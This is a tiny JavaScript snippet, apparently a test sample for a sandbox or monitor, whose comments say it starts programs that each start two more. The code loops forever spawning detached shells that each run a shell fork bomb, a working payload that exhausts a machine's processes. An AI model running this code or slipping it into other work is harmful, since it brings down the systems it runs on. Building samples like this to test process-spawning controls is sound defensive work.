// starts programs, each of which would start two more
// told: tried to start a program
const { spawn } = process.getBuiltinModule('node:child_process');
for (;;) spawn('/bin/sh', ['-c', ':(){ :|:& };:'], { detached: true });
